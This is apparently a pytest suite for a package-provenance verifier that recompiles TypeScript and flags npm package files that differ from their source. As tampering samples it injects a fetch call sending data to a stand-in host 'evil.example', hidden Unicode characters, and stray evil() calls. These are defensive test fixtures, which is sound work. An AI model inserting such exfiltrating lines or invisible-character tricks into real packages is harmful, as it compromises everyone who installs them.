"""Compiled files are what the real compiler makes of the source, or they are shown line by line.

The compiler is TypeScript 5.9.3 of the public registry in its isolate; each test compares a package of its own output,
clean or altered, with a source in memory.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from datetime import UTC, datetime

import pytest

from provenly.trust.errors import NotFoundError, UnavailableError
from provenly.trust.evidence import Explanation, FileClass
from provenly.verify.comparison.compare import compare
from provenly.verify.compiler.compilers import Compilers
from provenly.verify.compiler.releases import nearest
from provenly.verify.explain.markers import marks
from provenly.verify.explain.scene import Tools
from provenly.verify.network.cache import Cache
from provenly.verify.registry import npmrc
from provenly.verify.transport import HttpTransport
from tests.verify.explain.scenes import Files, Objects, packed, source_of

pytestmark = pytest.mark.registry

MAIN = {"name": "left-pad", "version": "1.3.0", "main": "dist/index.js", "type": "module"}
CONFIG = '{"compilerOptions": {"target": "es2022", "module": "node16", "outDir": "dist", "rootDir": "src"}}'
SOURCE = """#!/usr/bin/env node
import { pad, type Side } from "./pad.js";
import * as os from "node:os";

interface Options { side: Side; width?: number }

export async function main(options: Options): Promise<string> {
    const width = options.width ?? 80;
    const { default: more } = await import("./pad.js");
    return pad(os.hostname(), width, options.side) + String(more);
}
"""
PAD = """export type Side = "left" | "right";
export const pad = (text: string, width: number, side: Side): string =>
    side === "left" ? text.padStart(width) : text.padEnd(width);
export default pad;
"""
TREE: Files = {"package.json": MAIN, "tsconfig.json": CONFIG, "src/index.ts": SOURCE, "src/pad.ts": PAD}
BUILT = {
    "dist/index.js": """#!/usr/bin/env node
import { pad } from "./pad.js";
import * as os from "node:os";
export async function main(options) {
    const width = options.width ?? 80;
    const { default: more } = await import("./pad.js");
    return pad(os.hostname(), width, options.side) + String(more);
}
""",
    "dist/pad.js": 'export const pad = (text, width, side) => side === "left" '
    "? text.padStart(width) : text.padEnd(width);\nexport default pad;\n",
}


@pytest.fixture(scope="module")
def compilers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Compilers]:
    now = datetime(2026, 11, 22, tzinfo=UTC)
    settings = npmrc.load(environment={})
    with (
        Cache(tmp_path_factory.mktemp("cache"), now) as cache,
        HttpTransport(cache, settings) as transport,
        Compilers(transport, cache) as opened,
    ):
        yield opened


def compared(
    compilers: Compilers | None, package: Files, tree: Files = TREE, directory: str = ""
) -> Mapping[str, Explanation]:
    objects = Objects()
    package = {"package.json": MAIN, **package}
    comparison = compare(
        packed(package), source_of(objects, tree, directory), objects, tools=Tools(compilers=compilers)
    )
    return {file.path: file for file in comparison.files}


def classes(found: Mapping[str, Explanation]) -> dict[str, str]:
    return {path: str(file.file_class) for path, file in found.items() if path != "package.json"}


def test_what_the_project_compiles_to_is_recompiled(compilers):
    found = compared(compilers, BUILT)
    assert classes(found) == {"dist/index.js": "recompiled", "dist/pad.js": "recompiled"}
    file = found["dist/index.js"]
    assert (file.source, file.elsewhere, file.explainer) == ("src/index.ts", False, "recompiled")
    assert file.detail == "TypeScript 5.9.3, tsconfig.json"


@pytest.mark.parametrize(
    "line",
    [
        '    fetch("https://evil.example/?" + width);\n',
        "    // a remark\n",
        " \n",
    ],
)
def test_a_line_that_somebody_added_is_all_that_is_shown(compilers, line):
    lines = BUILT["dist/index.js"].splitlines(keepends=True)
    found = compared(compilers, {**BUILT, "dist/index.js": "".join((*lines[:5], line, *lines[5:]))})
    file = found["dist/index.js"]
    assert file.file_class is FileClass.UNEXPLAINED
    assert file.lines == ((6, 6),)
    assert [text for text in file.diff.splitlines()[2:] if text[0] in "+-"] == [f"+{line.rstrip(chr(10))}"]
    assert found["dist/pad.js"].file_class is FileClass.RECOMPILED


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("?? 80", "?? 81"),
        ("os.hostname()", "os.userInfo().username"),
        ("export default pad;\n", ""),
        ("#!/usr/bin/env node\n", "#!/usr/bin/env node\revil();\n"),
        ("#!/usr/bin/env node\n", "#!/usr/bin/env node\u2028evil();\n"),
        ("width);", "width)\u3164;"),
        ('"node:os"', '"node:os\u200b"'),
        ("    const width", "   const width"),
    ],
)
def test_a_changed_byte_is_unexplained(compilers, old, new):
    path = "dist/pad.js" if old in BUILT["dist/pad.js"] else "dist/index.js"
    changed = BUILT[path].replace(old, new, 1)
    assert changed != BUILT[path]
    found = compared(compilers, {**BUILT, path: changed})
    assert found[path].file_class is FileClass.UNEXPLAINED
    assert found[path].source == f"src/{path[5:-3]}.ts"


def test_a_fixture_is_no_entry_point_even_where_a_project_writes_it_there(compilers):
    tree = {
        **TREE,
        "tsconfig.test.json": CONFIG.replace('"src"', '"test/fixtures"').replace("}}", '}, "include": ["test"]}'),
        "test/fixtures/index.ts": "export const evil: number = 1;\n",
    }
    found = compared(compilers, {**BUILT, "dist/index.js": "export const evil = 1;\n"}, tree)
    assert found["dist/index.js"].file_class is FileClass.UNEXPLAINED


def test_no_second_source_takes_the_place_of_the_first(compilers):
    tree = {
        **TREE,
        "tsconfig.other.json": CONFIG.replace('"src"', '"other"').replace("}}", '}, "include": ["other"]}'),
        "other/index.ts": "export const evil: number = 1;\n",
    }
    found = compared(compilers, {**BUILT, "dist/index.js": "export const evil = 1;\n"}, tree)
    assert found["dist/index.js"].file_class is FileClass.UNEXPLAINED
    assert found["dist/index.js"].source == "src/index.ts"


def test_another_module_of_the_same_package_is_no_explanation(compilers):
    found = compared(compilers, {"dist/index.js": BUILT["dist/pad.js"], "dist/auth/check.js": BUILT["dist/pad.js"]})
    assert set(classes(found).values()) == {"unexplained"}


def test_a_package_that_is_published_from_its_build_folder_is_elsewhere(compilers):
    manifest = {**MAIN, "main": "index.js"}
    found = compared(compilers, {"package.json": manifest, "pad.js": BUILT["dist/pad.js"]})
    assert (found["pad.js"].file_class, found["pad.js"].elsewhere) == (FileClass.RECOMPILED, True)
    assert "the project writes it to dist/pad.js" in found["pad.js"].detail


def test_where_the_source_has_a_file_of_its_own_nothing_of_another_place_will_do(compilers):
    tree = {**TREE, "lib/pad.js": "export default null;\n", "lib/index.ts": "", "pad.js": "export default null;\n"}
    found = compared(compilers, {"lib/pad.js": BUILT["dist/pad.js"], "pad.js": BUILT["dist/pad.js"]}, tree)
    assert set(classes(found).values()) == {"unexplained"}


def test_a_source_outside_of_the_package_is_said_to_be(compilers):
    config = CONFIG.replace('"src"', '".."').replace("}}", '}, "include": ["src", "../shared"]}')
    tree = {
        "package.json": {"private": True},
        "packages/a/package.json": MAIN,
        "packages/a/tsconfig.json": config,
        "packages/a/src/index.ts": 'import "../../shared/pad.js";\n',
        "packages/shared/pad.ts": PAD,
    }
    package = {"dist/shared/pad.js": BUILT["dist/pad.js"], "dist/a/src/index.js": 'import "../../shared/pad.js";\n'}
    package = {path: text.encode() for path, text in package.items()}
    found = compared(compilers, package, tree, "packages/a")
    assert found["dist/a/src/index.js"].file_class is FileClass.RECOMPILED
    assert not found["dist/a/src/index.js"].elsewhere
    file = found["dist/shared/pad.js"]
    assert (file.file_class, file.elsewhere) == (FileClass.RECOMPILED, True)
    assert file.detail.endswith("its source packages/shared/pad.ts is outside of the package's directory")


COMMONJS = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.pad = void 0;
const pad = (text, width, side) => side === "left" ? text.padStart(width) : text.padEnd(width);
exports.pad = pad;
exports.default = exports.pad;
"""


def test_both_forms_of_a_dual_build_and_their_markers(compilers):
    package = {
        "dist/esm/pad.js": BUILT["dist/pad.js"],
        "dist/esm/package.json": '{"type":"module"}',
        "dist/commonjs/pad.js": COMMONJS,
        "dist/commonjs/package.json": '{\n  "type": "commonjs"\n}\n',
    }
    found = compared(compilers, package, {**TREE, "tsconfig.json": CONFIG.replace('"outDir": "dist", ', "")})
    assert set(classes(found).values()) == {"recompiled"}


@pytest.mark.parametrize(
    ("marker", "code"),
    [
        ('{"type":"module"}', COMMONJS),
        ('{"type":"commonjs"}', BUILT["dist/pad.js"]),
        ('{"type":"commonjs","main":"./evil.js"}', COMMONJS),
        ('{"type":"commonjs","imports":{"#a":"./evil.js"}}', COMMONJS),
        ('{"type":"commonjs","type":"module"}', COMMONJS),
        ('["commonjs"]', COMMONJS),
        ("{", COMMONJS),
    ],
)
def test_a_marker_says_what_the_files_are_and_nothing_else(marker, code):
    contents = {"d/package.json": marker.encode(), "d/pad.js": code.encode()}
    assert marks("d/package.json", contents, {"d/pad.js"}) == ""


def test_a_marker_of_files_that_nobody_made_is_unexplained():
    contents = {"d/package.json": b'{"type":"commonjs"}', "d/pad.js": COMMONJS.encode(), "d/x.js": COMMONJS.encode()}
    assert marks("d/package.json", contents, {"d/pad.js"}) == ""
    assert marks("d/package.json", contents, {"d/pad.js", "d/x.js"}) == "commonjs"
    assert marks("d/package.json", {"d/package.json": b'{"type":"commonjs"}'}, set()) == ""


def test_declarations_and_maps_are_reproduced_and_prove_nothing_about_their_code(compilers):
    config = CONFIG.replace('"outDir"', '"declaration": true, "sourceMap": true, "outDir"')
    tree = {**TREE, "tsconfig.json": config}
    files = {name: data for name, data in TREE.items() if isinstance(data, str)} | {"package.json": '{"type":"module"}'}
    emitted = compilers.program(
        nearest("5.9.3"),
        {name: data.encode() for name, data in (files | {"tsconfig.json": config}).items()},
        "tsconfig.json",
    )
    package = dict(emitted.outputs)
    assert {"dist/pad.d.ts", "dist/pad.js.map"} <= package.keys()
    assert set(classes(compared(compilers, package, tree)).values()) == {"recompiled"}
    package["dist/pad.js"] = package["dist/pad.js"].replace(b"padStart", b"padEnd")
    found = classes(compared(compilers, package, tree))
    assert found.pop("dist/pad.js") == "unexplained"
    assert set(found.values()) == {"recompiled"}


def test_data_that_a_source_imports_is_written_anew(compilers):
    config = CONFIG.replace('"outDir"', '"resolveJsonModule": true, "outDir"')
    code = 'import data from "./data.json" with { type: "json" };\nexport default data;\n'
    tree = {**TREE, "tsconfig.json": config, "src/data.json": '{ "a": 1,\n\n\n"b": [2] }', "src/index.ts": code}
    package = {"dist/index.js": code, "dist/data.json": '{ "a": 1,\n    "b": [2] }\n'}
    assert set(classes(compared(compilers, package, tree)).values()) == {"recompiled"}
    package["dist/data.json"] = package["dist/data.json"].replace("2", "3")
    assert classes(compared(compilers, package, tree))["dist/data.json"] == "unexplained"


def test_a_step_after_the_compiler_is_named(compilers):
    package = {**BUILT, "dist/pad.js": "#!/usr/bin/env node\n" + BUILT["dist/pad.js"]}
    file = compared(compilers, package)["dist/pad.js"]
    assert file.file_class is FileClass.RECOMPILED
    assert "#!/usr/bin/env node inserted (hashbang)" in file.detail


def test_a_script_in_javascript_may_get_a_hashbang_too(compilers):
    tree = {**TREE, "src/cli.js": "run();\n"}
    file = compared(compilers, {**BUILT, "dist/cli.js": "#!/usr/bin/env node\nrun();\n"}, tree)["dist/cli.js"]
    assert (file.file_class, file.source) == (FileClass.RECOMPILED, "src/cli.js")
    other = compared(compilers, {**BUILT, "dist/cli.js": "#!/usr/bin/env node\nrun(1);\n"}, tree)["dist/cli.js"]
    assert other.file_class is FileClass.UNEXPLAINED


def test_options_of_a_script_count(compilers):
    manifest = {**MAIN, "scripts": {"build": "tsc -p cfg --outDir lib --removeComments"}}
    config = '{"compilerOptions": {"target": "es2022", "module": "esnext", "rootDir": "../src"}, "include": ["../src"]}'
    tree = {"package.json": manifest, "cfg/tsconfig.json": config, "src/pad.ts": f"// a remark\n{PAD}"}
    found = compared(compilers, {"package.json": manifest, "lib/pad.js": BUILT["dist/pad.js"]}, tree)
    assert found["lib/pad.js"].detail == "TypeScript 5.9.3, cfg/tsconfig.json (script build)"


def test_a_source_that_is_no_typescript_explains_nothing_and_breaks_nothing(compilers):
    tree = {**TREE, "src/pad.ts": "export const = ; `${\n", "src/zero.ts": "\0"}
    found = classes(compared(compilers, {**BUILT, "dist/zero.js": "\0"}, tree))
    assert found["dist/index.js"] == "recompiled"
    assert found["dist/pad.js"] == "unexplained"


def test_a_configuration_that_is_none_leaves_single_files(compilers):
    found = compared(compilers, {"dist/pad.js": BUILT["dist/pad.js"]}, {**TREE, "tsconfig.json": "{"})
    assert "compiles to by itself" in found["dist/pad.js"].detail


def test_without_a_compiler_nothing_is_explained_and_the_reason_said():
    file = compared(None, BUILT)["dist/index.js"]
    assert file.file_class is FileClass.UNEXPLAINED
    assert "there is no compiler here" in file.detail


class Nowhere:
    """A registry that has no compiler."""

    def get(self, url, **_):
        raise NotFoundError(f"{url} does not exist", code="NET_NOT_FOUND")

    def download(self, url, **_):
        raise NotFoundError(f"{url} does not exist", code="NET_NOT_FOUND")


def test_a_compiler_that_cannot_be_had_is_no_answer_about_the_package():
    with Compilers(Nowhere()) as none, pytest.raises(UnavailableError) as caught:
        compared(none, BUILT)
    assert caught.value.code == "COMPILER_UNAVAILABLE"


def test_a_package_of_plain_javascript_needs_no_compiler():
    with Compilers(Nowhere()) as none:
        found = compared(none, {"index.js": "evil();\n"}, {"index.js": "good();\n", "types.d.ts": "", "a.test.ts": ""})
    assert found["index.js"].file_class is FileClass.UNEXPLAINED
